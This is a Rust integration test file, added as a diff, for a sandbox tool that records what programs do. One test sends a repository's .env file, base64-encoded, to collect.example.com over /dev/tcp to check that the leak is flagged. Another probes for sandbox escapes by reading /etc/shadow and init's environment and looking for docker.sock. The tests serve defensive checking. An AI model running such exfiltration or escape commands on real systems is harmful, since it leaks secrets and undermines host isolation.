@@ -1,0 +1,273 @@
+//! Tools run in the sandbox, and what is recorded of them.
+#![cfg(target_os = "linux")]
+
+use std::time::{Duration, Instant};
+
+use assay_it::Bench;
+use serde_json::Value;
+
+use crate::support::{bench, list, run_to, skipped, text};
+
+/// Whether an ordinary user may make namespaces here; a host may forbid it.
+fn has_sandbox(bench: &Bench) -> bool {
+    let outcome = bench.run(&["observe", "--", "/bin/true"]).unwrap();
+    if outcome.code() == Some(0) {
+        return true;
+    }
+    assert!(outcome.stderr.contains("namespaces"), "{outcome:?}");
+    skipped("this host lets nobody make namespaces");
+    false
+}
+
+/// Runs a shell script in the sandbox and gives what was observed.
+fn observe(bench: &Bench, script: &str, more: &[&str]) -> Value {
+    let mut arguments = vec!["observe", "--format", "json"];
+    arguments.extend(more);
+    arguments.extend(["--", "/bin/bash", "-c", script]);
+    run_to(bench, &arguments, 0).json().unwrap()
+}
+
+/// What a script printed. The bench has a folder for each recording.
+fn printed(bench: &Bench, name: &str, script: &str, more: &[&str]) -> String {
+    let folder = bench.path(name);
+    let mut all = vec!["--output", folder.to_str().unwrap()];
+    all.extend(more);
+    observe(bench, script, &all);
+    std::fs::read_to_string(folder.join("run-1/stdout")).unwrap()
+}
+
+#[test]
+fn a_run_sees_its_own_host_only() {
+    let bench = bench();
+    if !has_sandbox(&bench) {
+        return;
+    }
+    let more = [
+        "--zone",
+        "Asia/Tokyo",
+        "--host-name",
+        "desk-7",
+        "--user",
+        "kim",
+        "--env",
+        "A=b c",
+    ];
+    let script = "id -un; id -u; hostname; pwd; date +%Z; readlink /etc/localtime; echo $A; echo ${SECRET-none}; ls /root /etc/shadow 2>&1 | wc -l; ls -d /home/*";
+    let said = printed(&bench, "own", script, &more);
+    let lines: Vec<&str> = said.lines().collect();
+    assert_eq!(
+        lines,
+        [
+            "kim",
+            "1000",
+            "desk-7",
+            "/home/kim/project",
+            "JST",
+            "/usr/share/zoneinfo/Asia/Tokyo",
+            "b c",
+            "none",
+            "2",
+            "/home/kim"
+        ]
+    );
+}
+
+#[test]
+fn a_canary_that_leaves_is_told_with_where_it_went() {
+    let bench = bench();
+    if !has_sandbox(&bench) {
+        return;
+    }
+    let script = r#"
+body=$(base64 -w0 .env)
+exec 3<>/dev/tcp/collect.example.com/80
+printf 'POST /v1/events?x=1 HTTP/1.1\r\nHost: collect.example.com\r\nX-Odd: 1\r\nContent-Length: %d\r\n\r\n%s' ${#body} "$body" >&3
+read -r line <&3; echo "$line""#;
+    let seen = observe(&bench, script, &[]);
+    let run = &list(&seen, "/runs")[0];
+    let host = &list(run, "/hosts")[0];
+    assert_eq!(text(host, "/host"), "collect.example.com");
+    assert_eq!(host.pointer("/paths/0").unwrap(), "POST /v1/events");
+    let left = list(run, "/canaries");
+    assert_eq!(left.len(), 1, "{left:#?}");
+    assert_eq!(
+        text(&left[0], "/canary"),
+        "the environment file of the repository"
+    );
+    assert_eq!(text(&left[0], "/written"), "Base64");
+    assert_eq!(text(&left[0], "/host"), "collect.example.com");
+    let opened = list(run, "/files")
+        .iter()
+        .find(|file| text(file, "/path") == "/home/dev/project/.env");
+    assert_eq!(
+        text(opened.unwrap(), "/canary"),
+        "the environment file of the repository"
+    );
+}
+
+#[test]
+fn what_was_sent_is_kept_as_it_was_written() {
+    let bench = bench();
+    if !has_sandbox(&bench) {
+        return;
+    }
+    let folder = bench.path("kept");
+    let script = r#"exec 3<>/dev/tcp/a.example/8080
+printf 'GET /q HTTP/1.1\r\nzULU: 1\r\nhost: a.example:8080\r\nAlpha: 2\r\n\r\n' >&3; read -r line <&3; echo "$line""#;
+    observe(&bench, script, &["--output", folder.to_str().unwrap()]);
+    let events = std::fs::read_to_string(folder.join("run-1/events.jsonl")).unwrap();
+    let events: Vec<Value> = events
+        .lines()
+        .map(|line| serde_json::from_str(line).unwrap())
+        .collect();
+    let exchange = events
+        .iter()
+        .find(|event| text(event, "/seen") == "exchange")
+        .unwrap();
+    let names: Vec<&str> = list(exchange, "/request/headers")
+        .iter()
+        .map(|header| text(header, "/0"))
+        .collect();
+    assert_eq!(names, ["zULU", "host", "Alpha"]);
+    let name = events
+        .iter()
+        .find(|event| text(event, "/seen") == "name")
+        .unwrap();
+    assert_eq!(text(name, "/name"), "a.example");
+    // Ethernet, in blocks that end as long as they say they are.
+    let packets = std::fs::read(folder.join("run-1/packets.pcapng")).unwrap();
+    let mut at = 0;
+    let mut blocks = 0;
+    while at < packets.len() {
+        let word = |at: usize| u32::from_le_bytes(packets[at..at + 4].try_into().unwrap());
+        let len = word(at + 4) as usize;
+        assert_eq!(word(at + len - 4) as usize, len);
+        at += len;
+        blocks += 1;
+    }
+    assert!(blocks > 8, "{blocks}");
+}
+
+#[test]
+fn the_sandbox_has_no_way_out() {
+    let bench = bench();
+    if !has_sandbox(&bench) {
+        return;
+    }
+    // Each line that is printed got through.
+    let script = r"
+mount -t tmpfs none /mnt 2>/dev/null && echo mount
+unshare -U true 2>/dev/null && echo user-namespace
+unshare -n true 2>/dev/null && echo network-namespace
+touch /usr/x 2>/dev/null && echo usr
+touch /x 2>/dev/null && echo root
+touch /etc/x 2>/dev/null && echo etc
+touch /opt/x 2>/dev/null && echo opt
+cat /etc/shadow 2>/dev/null && echo shadow
+kill -9 1 2>/dev/null
+ls /proc/1/root/ 2>/dev/null | grep -q . && echo root-of-init
+cat /proc/1/environ 2>/dev/null | grep -q . && echo environment-of-init
+ls /proc | grep -E '^[0-9]+$' | while read p; do [ $p -gt 200 ] && echo process-$p; done
+chroot / true 2>/dev/null && echo chroot
+{ echo x > /proc/sys/kernel/hostname; } 2>/dev/null && echo sysctl
+find /proc/sys -writable -type f 2>/dev/null
+[ $(wc -c < /proc/kallsyms) = 0 ] || echo kallsyms
+ls /sys 2>/dev/null | grep -q . && echo sys
+for f in /run/docker.sock /var/run/docker.sock /run/systemd; do [ -e $f ] && echo $f; done
+dd if=/dev/zero of=/tmp/full bs=1M count=1200 2>/dev/null && echo disk
+true";
+    assert_eq!(printed(&bench, "out", script, &[]), "");
+}
+
+#[test]
+fn what_is_left_running_is_told_and_ended() {
+    let bench = bench();
+    if !has_sandbox(&bench) {
+        return;
+    }
+    let seen = observe(&bench, "setsid sleep 76543 & disown; exit 3", &[]);
+    let run = &list(&seen, "/runs")[0];
+    assert_eq!(run.pointer("/status").unwrap(), 3);
+    assert!(text(&list(run, "/left_running")[0], "").contains("sleep 76543"));
+    assert!(!is_running("sleep\u{0}76543"));
+}
+
+#[test]
+fn a_run_that_does_not_end_is_ended() {
+    let bench = bench();
+    if !has_sandbox(&bench) {
+        return;
+    }
+    let seen = observe(&bench, "sleep 76544", &["--time", "1"]);
+    let run = &list(&seen, "/runs")[0];
+    assert_eq!(text(run, "/ended"), "it was ended by the limit on time");
+    assert!(!is_running("sleep\u{0}76544"));
+}
+
+#[test]
+fn nothing_lives_on_when_assay_is_killed() {
+    let bench = bench();
+    if !has_sandbox(&bench) {
+        return;
+    }
+    let mut child = bench
+        .command(&["observe", "--", "/bin/sleep", "76545"])
+        .unwrap()
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    let started = Instant::now();
+    while !is_running("sleep\u{0}76545") {
+        assert!(
+            started.elapsed() < Duration::from_secs(60),
+            "it never started"
+        );
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    child.kill().unwrap();
+    child.wait().unwrap();
+    let killed = Instant::now();
+    while is_running("sleep\u{0}76545") {
+        assert!(killed.elapsed() < Duration::from_secs(20), "it lives on");
+        std::thread::sleep(Duration::from_millis(20));
+    }
+}
+
+/// Whether any process of this machine was started so.
+fn is_running(line: &str) -> bool {
+    std::fs::read_dir("/proc").unwrap().flatten().any(|entry| {
+        let told = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
+        String::from_utf8_lossy(&told).contains(line)
+    })
+}
+
+#[test]
+fn what_cannot_be_run_says_so() {
+    let bench = bench();
+    if !has_sandbox(&bench) {
+        return;
+    }
+    let outcome = run_to(&bench, &["observe", "--", "/no/such/program"], 2);
+    assert!(
+        outcome
+            .stderr
+            .contains("/no/such/program could not be started"),
+        "{outcome:?}"
+    );
+    for (arguments, said) in [
+        (
+            &["observe", "pypi:six"][..],
+            "cannot be installed in the sandbox",
+        ),
+        (&["observe"], "required"),
+        (&["observe", "--user", "../x", "--", "true"], "a name is of"),
+        (
+            &["observe", "--zone", "../../etc/passwd", "--", "true"],
+            "a time zone is a name",
+        ),
+    ] {
+        let outcome = run_to(&bench, arguments, 2);
+        assert!(outcome.stderr.contains(said), "{outcome:?}");
+    }
+}
